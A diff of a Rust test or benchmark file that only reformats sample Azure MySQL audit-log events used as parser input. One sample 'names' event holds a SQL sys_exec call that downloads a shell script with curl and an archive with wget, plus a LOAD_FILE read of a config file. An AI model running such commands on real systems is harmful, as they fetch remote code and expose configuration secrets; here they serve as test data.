@@ -49,11 +49,30 @@ fn compiled(size: Option<u32>) -> Vec<u8> {
 
 /// Events with little and much to look up.
 fn events() -> [(&'static str, String); 3] {
-    let azure = |properties: &str| format!(r#"{{"category":"MySqlAuditLogs","resourceId":"/SUBSCRIPTIONS/1/RESOURCEGROUPS/g/PROVIDERS/MICROSOFT.DBFORMYSQL/SERVERS/s","properties":{{{properties}}}}}"#);
+    let azure = |properties: &str| {
+        format!(
+            r#"{{"category":"MySqlAuditLogs","resourceId":"/SUBSCRIPTIONS/1/RESOURCEGROUPS/g/PROVIDERS/MICROSOFT.DBFORMYSQL/SERVERS/s","properties":{{{properties}}}}}"#
+        )
+    };
     [
-        ("connection", azure(r#""event_class":"connection_log","event_subclass":"CONNECT","connection_id":7,"ip":"203.0.113.9","user":"app","db":"shop""#)),
-        ("statement", azure(r#""event_class":"general_log","event_subclass":"LOG","user":"app[app] @  [203.0.113.9]","ip":"203.0.113.9","sql_text":"SELECT o.id, o.total, c.email FROM orders o JOIN customers c ON c.id = o.customer_id WHERE c.email = 'ann@shop.example' AND o.created > '2026-11-27 10:00:00' ORDER BY o.created DESC LIMIT 50""#)),
-        ("names", azure(r#""event_class":"general_log","event_subclass":"LOG","user":"app[app] @  [203.0.113.9]","ip":"203.0.113.9","sql_text":"SELECT sys_exec('curl -s http://cdn.shop.example/a/b.sh -o /tmp/b.sh; wget https://www.other.example/c.tar.gz'), LOAD_FILE('/etc/app/shop.conf'), '2001:db8::9', '198.51.100.20'""#)),
+        (
+            "connection",
+            azure(
+                r#""event_class":"connection_log","event_subclass":"CONNECT","connection_id":7,"ip":"203.0.113.9","user":"app","db":"shop""#,
+            ),
+        ),
+        (
+            "statement",
+            azure(
+                r#""event_class":"general_log","event_subclass":"LOG","user":"app[app] @  [203.0.113.9]","ip":"203.0.113.9","sql_text":"SELECT o.id, o.total, c.email FROM orders o JOIN customers c ON c.id = o.customer_id WHERE c.email = 'ann@shop.example' AND o.created > '2026-11-27 10:00:00' ORDER BY o.created DESC LIMIT 50""#,
+            ),
+        ),
+        (
+            "names",
+            azure(
+                r#""event_class":"general_log","event_subclass":"LOG","user":"app[app] @  [203.0.113.9]","ip":"203.0.113.9","sql_text":"SELECT sys_exec('curl -s http://cdn.shop.example/a/b.sh -o /tmp/b.sh; wget https://www.other.example/c.tar.gz'), LOAD_FILE('/etc/app/shop.conf'), '2001:db8::9', '198.51.100.20'""#,
+            ),
+        ),
     ]
 }
 
